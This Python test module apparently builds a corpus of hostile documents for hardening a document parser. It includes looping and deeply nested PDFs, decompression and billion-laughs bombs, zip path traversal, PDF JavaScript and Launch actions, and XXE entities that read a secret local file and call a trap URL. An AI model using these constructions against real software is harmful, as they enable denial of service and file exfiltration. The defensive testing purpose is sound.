"""Documents that loop, unpack to far more than they are, or act when opened."""

import zlib

from tests.corpus.formats import office, zips
from tests.corpus.formats.documents import CATALOG, one_page, pdf, stream
from tests.corpus.formats.ole import compound
from tests.corpus.formats.zeros import GIB, MIB
from tests.corpus.formats.zips import DEFLATED, Entry
from tests.corpus.good import documents as good_documents
from tests.corpus.hostile.archives import bomb
from tests.corpus.items import COMPLETED, hostile
from tests.corpus.trap import Trap

UNREADABLE, BOMB, UNSAFE = "unreadable", "archive_bomb", "archive_unsafe"


@hostile("a PDF whose pages are their own children", "report.pdf", UNREADABLE)
def looping_pages() -> bytes:
    return pdf({1: CATALOG, 2: b"<</Type/Pages/Parent 2 0 R/Count 99999/Kids[2 0 R 2 0 R]>>"})


@hostile("a PDF whose objects refer to each other without end", "report.pdf", UNREADABLE)
def looping_objects() -> bytes:
    return pdf({1: b"2 0 R", 2: b"3 0 R", 3: b"1 0 R"}, b"/Info 3 0 R")


@hostile("a PDF whose stream is as long as an object that is in it", "report.pdf", COMPLETED)
def looping_length() -> bytes:
    objects = one_page(b"")
    objects[4] = b"<</Length 5 0 R>>stream\n5 0 obj\n99999\nendobj\nendstream"
    return pdf(objects | {5: b"5 0 R"})


@hostile("a PDF whose form draws itself", "report.pdf", COMPLETED, "parser_memory", "parser_crashed")
def looping_form() -> bytes:
    form = stream(b"/F Do /F Do", b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</F 5 0 R>>>>")
    return pdf(one_page(b"/F Do", b"<</XObject<</F 5 0 R>>>>") | {5: form})


@hostile("a PDF whose tables of objects lead in a circle", "report.pdf", COMPLETED)
def looping_tables() -> bytes:
    made = pdf(one_page(b""))
    place = made.index(b"xref\n")
    return made.replace(b"/Root 1 0 R", b"/Root 1 0 R/Prev %d" % place)


@hostile("a PDF whose tree of pages is 20000 deep", "report.pdf", UNREADABLE)
def deep_pages() -> bytes:
    depth = 20_000
    nodes = {n: b"<</Type/Pages/Count 1/Kids[%d 0 R]/Parent %d 0 R>>" % (n + 1, n - 1) for n in range(2, depth)}
    return pdf({1: CATALOG, **nodes, depth: b"<</Type/Page/Parent %d 0 R/MediaBox[0 0 9 9]>>" % (depth - 1)})


@hostile("a PDF with arrays 200000 deep", "report.pdf", COMPLETED)
def deep_arrays() -> bytes:
    return pdf(one_page(b"") | {5: b"[" * 200_000 + b"]" * 200_000}, b"/Info 5 0 R")


@hostile("a PDF whose page is 256 MiB of zeros", "report.pdf", COMPLETED, "parser_memory", "parser_crashed")
def content_bomb() -> bytes:
    packer = zlib.compressobj(9)
    packed = b"".join(packer.compress(bytes(MIB)) for _ in range(256)) + packer.flush()
    packed = zlib.compress(packed, 9)
    return pdf(one_page(b"") | {4: stream(packed, b"/Filter[/FlateDecode/FlateDecode]")})


@hostile("a PDF that unpacks a stream thirty times over", "report.pdf", COMPLETED)
def filter_bomb() -> bytes:
    content = bytes(MIB)
    for _ in range(30):
        content = zlib.compress(content, 9)
    return pdf(one_page(b"") | {4: stream(content, b"/Filter[%s]" % (b"/FlateDecode" * 30))})


@hostile("a PDF that claims 2^31 - 1 pages", "report.pdf", COMPLETED)
def claimed_pages() -> bytes:
    return pdf(one_page(b"") | {2: b"<</Type/Pages/Count 2147483647/Kids[3 0 R]>>"})


@hostile("a PDF whose table of objects is 4 GiB long", "report.pdf", COMPLETED)
def claimed_objects() -> bytes:
    return pdf(one_page(b"")).replace(b"xref\n0 5", b"xref\n0 4294967295").replace(b"/Size 5", b"/Size 4294967295")


@hostile("a PDF with an image of a million pixels a side", "scan.pdf", COMPLETED)
def vast_image() -> bytes:
    facts = b"/Type/XObject/Subtype/Image/Width 1000000/Height 1000000/ColorSpace/DeviceRGB/BitsPerComponent 16"
    return pdf(one_page(b"200 0 0 100 0 0 cm /I Do", b"<</XObject<</I 5 0 R>>>>") | {5: stream(b"x", facts)})


@hostile("a PDF that runs a script when opened", "report.pdf", COMPLETED, told={"javascript": True})
def script(trap: Trap) -> bytes:
    code = f"app.launchURL('{trap.url}');this.exportDataObject();while(1);".encode()
    catalog = b"<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(%s)>>>>" % code.replace(b"(", b"\\(").replace(
        b")", b"\\)"
    )
    return pdf(one_page(b"", catalog=catalog))


@hostile("a PDF that launches a program and submits a form", "report.pdf", COMPLETED)
def launch(trap: Trap) -> bytes:
    after = b"/AA<</O<</S/SubmitForm/F(%s)>>>>" % trap.url.encode()
    catalog = b"<</Type/Catalog/Pages 2 0 R/OpenAction<</S/Launch/F(%s)>>%s>>" % (trap.secret.encode(), after)
    return pdf(one_page(b"", catalog=catalog))


@hostile("a PDF whose stream is another file", "report.pdf", COMPLETED)
def external_stream(trap: Trap) -> bytes:
    return pdf(one_page(b"") | {4: stream(b"", b"/F(%s)" % trap.secret.encode())})


@hostile(
    "a PDF whose text is a gigabyte of spaces in an XML form",
    "report.pdf",
    COMPLETED,
    "parser_memory",
    "parser_crashed",
)
def form_bomb() -> bytes:
    packer = zlib.compressobj(9)
    packed = b"".join(packer.compress(b" " * MIB) for _ in range(1024)) + packer.flush()
    catalog = b"<</Type/Catalog/Pages 2 0 R/Metadata 5 0 R/AcroForm<</Fields[]/XFA 5 0 R>>>>"
    return pdf(one_page(b"", catalog=catalog) | {5: stream(packed, b"/Filter/FlateDecode")})


def word(parts: dict[str, bytes], **properties: str) -> bytes:
    """Return a Word document with these parts."""
    return office.ooxml("word/document.xml", office.WORD, parts, **properties)


LAUGHS = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
DTD = f'<!DOCTYPE x [<!ENTITY a0 "ha">{LAUGHS}]>'


@hostile("a Word document whose properties are a billion laughs", "letter.docx", UNREADABLE)
def laughing_word() -> bytes:
    core = f'<?xml version="1.0"?>{DTD}<x xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:title>&a9;</dc:title></x>'
    parts = {"word/document.xml": office.word_text("x"), "docProps/core.xml": core.encode()}
    return word(parts)


@hostile("a Word document whose title is a local file", "letter.docx", UNREADABLE)
def external_word(trap: Trap) -> bytes:
    dtd = f'<!DOCTYPE x [<!ENTITY e SYSTEM "file://{trap.secret}"><!ENTITY % p SYSTEM "{trap.url}/x.dtd">%p;]>'
    core = f'<?xml version="1.0"?>{dtd}<x xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:title>&e;</dc:title></x>'
    return word({"word/document.xml": office.word_text("x"), "docProps/core.xml": core.encode()})


@hostile("a Word document with a template at an address", "letter.docx", COMPLETED, told={"external_references": 1})
def template(trap: Trap) -> bytes:
    kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
    link = f'<Relationship Id="r1" Type="{kind}" Target="{trap.url}/t.dotm" TargetMode="External"/>'
    links = (
        f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{link}</Relationships>'
    )
    return word({"word/document.xml": office.word_text("x"), "word/_rels/settings.xml.rels": links.encode()})


@hostile("a Word document whose text unpacks to a gigabyte", "letter.docx", BOMB)
def word_bomb() -> bytes:
    frame = office.frame("word/document.xml", office.WORD, {})
    entries = [Entry(name.encode(), content, DEFLATED) for name, content in frame.items()]
    return zips.archive([*entries, bomb(b"word/document.xml", GIB)])


@hostile("a Word document whose properties unpack to a gigabyte", "letter.docx", BOMB)
def property_bomb() -> bytes:
    frame = office.frame("word/document.xml", office.WORD, {}) | {"word/document.xml": office.word_text("x")}
    del frame["docProps/core.xml"]
    entries = [Entry(name.encode(), content, DEFLATED) for name, content in frame.items()]
    return zips.archive([*entries, bomb(b"docProps/core.xml", GIB)])


@hostile("a Word document whose part leads outside", "letter.docx", UNSAFE)
def word_outside() -> bytes:
    return word({"word/document.xml": office.word_text("x"), "../../owned": b"x"})


@hostile("an Excel workbook that claims a million sheets", "table.xlsx", UNREADABLE)
def many_sheets() -> bytes:
    sheets = '<sheet name="S" sheetId="1" r:id="r1"/>' * 1_000_000
    book = f'<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheets>{sheets}</sheets></workbook>'
    return office.ooxml("xl/workbook.xml", office.SHEET, {"xl/workbook.xml": book.encode()})


@hostile("an OpenDocument text whose elements nest 100000 deep", "letter.odt", UNREADABLE)
def deep_odt() -> bytes:
    body = "<text:p>" * 100_000 + "</text:p>" * 100_000
    return office.opendocument(good_documents.ODT, f"<office:text>{body}</office:text>", "Deep", "A. Writer")


@hostile("a book whose package is a local file", "book.epub", UNREADABLE)
def external_epub(trap: Trap) -> bytes:
    container = (
        f'<?xml version="1.0"?><!DOCTYPE c [<!ENTITY e SYSTEM "file://{trap.secret}">]><container>'
        f'<rootfiles><rootfile full-path="../../..{trap.secret}"/><rootfile full-path="&e;"/></rootfiles></container>'
    )
    entries = [Entry(b"mimetype", b"application/epub+zip"), Entry(b"META-INF/container.xml", container.encode())]
    return zips.archive(entries)


@hostile("an old Word document whose table of sectors leads in a circle", "letter.doc", COMPLETED)
def looping_ole() -> bytes:
    made = bytearray(good_documents.doc())
    for sector in range(1, 12):
        made[512 + 4 * sector : 516 + 4 * sector] = (1).to_bytes(4, "little")
    return bytes(made)


@hostile("an old Word document whose directory is its own child", "letter.doc", COMPLETED)
def looping_directory() -> bytes:
    made = bytearray(good_documents.doc())
    for entry in range(3):
        place = 1024 + 128 * entry + 68
        made[place : place + 12] = (1).to_bytes(4, "little") * 3
    return bytes(made)


@hostile("an old Word document whose title is 4 GiB long", "letter.doc", COMPLETED)
def lying_summary() -> bytes:
    summary = bytes.fromhex("feff0000000000000000000000000000000000000000000000000000 01000000".replace(" ", ""))
    body = summary + bytes(16) + (48).to_bytes(4, "little") + b"\xff\xff\xff\x7f" * 40
    return compound({"WordDocument": b"\xec\xa5\xc1\0" + bytes(600), "\x05SummaryInformation": body})


@hostile("an RTF whose groups nest a million deep", "letter.rtf", COMPLETED)
def deep_rtf() -> bytes:
    return b"{\\rtf1" + b"{" * 1_000_000 + b"}" * 1_000_000 + b"}"


@hostile("a font that promises 65535 tables", "font.ttf", COMPLETED)
def font() -> bytes:
    return b"\0\1\0\0\xff\xff\0\0\0\0\0\0" + b"glyf\0\0\0\0\xff\xff\xff\xf0\xff\xff\xff\xf0" * 2000


@hostile("a web font of lying lengths", "font.woff2", COMPLETED)
def web_font() -> bytes:
    return b"wOF2\0\1\0\0\xff\xff\xff\xff\xff\xff\0\0" + b"\xff" * 200
